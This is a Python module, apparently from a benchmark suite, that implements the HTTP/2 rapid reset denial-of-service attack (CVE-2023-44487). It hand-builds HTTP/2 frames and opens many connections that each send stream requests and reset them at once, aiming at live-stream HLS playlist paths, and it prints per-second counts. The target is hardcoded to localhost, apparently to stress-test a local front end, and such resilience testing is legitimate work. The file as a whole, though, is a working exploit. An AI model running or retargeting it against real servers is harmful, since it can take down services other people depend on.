"""HTTP/2 rapid reset (CVE-2023-44487): `python -m bench.attacks.reset`.

Reads one JSON line: `port`, `tls`, `key`, `links`, each from an address of its own. Each opens streams and resets them at once
(RFC 9113 §6.4), as fast as the other end takes them: half ask for the event's page, half for reloads of parts to come, which
the front would have to ask edge for. Prints a line a second: streams, connections that were closed by the front.
"""

from __future__ import annotations

import contextlib
import json
import random
import select
import socket
import ssl
import struct
import sys
import time
from typing import Any

HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_OF_BOTH, CANCEL = 0x05, 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
AT_ONCE = 100
SEGMENT_S = 3.84
STREAM_MAX = 2**31 - 1
_AGAIN = (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError)


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """RFC 9113 §4.1."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def block(path: str, tls: bool) -> bytes:
    """A header block without Huffman codes or the dynamic table (RFC 7541 §6.1, §6.2.2)."""
    scheme = b"\x87" if tls else b"\x86"
    place, host = path.encode(), b"localhost"
    assert len(place) < 127
    return (
        b"\x82"
        + scheme
        + b"\x04"
        + bytes([len(place)])
        + place
        + b"\x01"
        + bytes([len(host)])
        + host
    )


class Link:
    """One connection; when it is closed, the next one."""

    def __init__(self, plan: dict[str, Any], source: str) -> None:
        self.plan, self.source = plan, source
        self.streams = self.closed = self.refused = 0
        self._socket: socket.socket | None = None
        self._unsent = b""
        self._stream = 1

    def step(self) -> None:
        """Sends what goes, throws away what comes."""
        try:
            if self._socket is None:
                self._open()
            assert self._socket is not None
            if not self._unsent:
                self._unsent = self._streams()
            self._unsent = self._unsent[self._socket.send(self._unsent) :]
        except _AGAIN:
            pass
        except OSError:
            self._close()
            return
        with contextlib.suppress(*_AGAIN):
            try:
                while self._socket is not None:
                    if not self._socket.recv(65_536):
                        self._close()
            except _AGAIN:
                raise
            except OSError:
                self._close()

    def fileno(self) -> int:
        return -1 if self._socket is None else self._socket.fileno()

    def _open(self) -> None:
        where = ("127.0.0.1", self.plan["port"])
        made = socket.create_connection(where, 3, source_address=(self.source, 0))
        if self.plan["tls"]:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            made = context.wrap_socket(made, server_hostname="localhost")
            if made.selected_alpn_protocol() != "h2":
                raise OSError("no HTTP/2 here")
        made.setblocking(False)
        self._socket, self._stream = made, 1
        self._unsent = PREFACE + frame(SETTINGS, 0, 0, b"")

    def _streams(self) -> bytes:
        out = []
        for _ in range(AT_ONCE):
            path = f"/{self.plan['key']}?{random.getrandbits(30)}"
            if random.getrandbits(1):
                msn = int(time.time() / SEGMENT_S) + random.randrange(2)
                path = f"/live/{self.plan['key']}/aac/live.m3u8?_HLS_msn={msn}&_HLS_part=3"
            out.append(frame(HEADERS, END_OF_BOTH, self._stream, block(path, self.plan["tls"])))
            out.append(frame(RST_STREAM, 0, self._stream, struct.pack(">I", CANCEL)))
            self._stream += 2
        self.streams += AT_ONCE
        if self._stream > STREAM_MAX - 2 * AT_ONCE:
            raise OSError("all streams are used up")
        return b"".join(out)

    def _close(self) -> None:
        if self._socket is None:
            self.refused += 1
            time.sleep(0.05)
            return
        self._socket.close()
        self._socket, self._unsent = None, b""
        self.closed += 1


def main() -> None:
    plan = json.loads(sys.stdin.readline())
    links = [Link(plan, f"127.4.0.{1 + number}") for number in range(plan["links"])]
    told_s = time.monotonic()
    while True:
        for link in links:
            link.step()
        there = [link for link in links if link.fileno() >= 0]
        select.select(there, there, [], 0.02)
        if time.monotonic() - told_s >= 1.0:
            told_s = time.monotonic()
            names = ("streams", "closed", "refused")
            print(
                json.dumps({name: sum(getattr(link, name) for link in links) for name in names}),
                flush=True,
            )


if __name__ == "__main__":
    main()
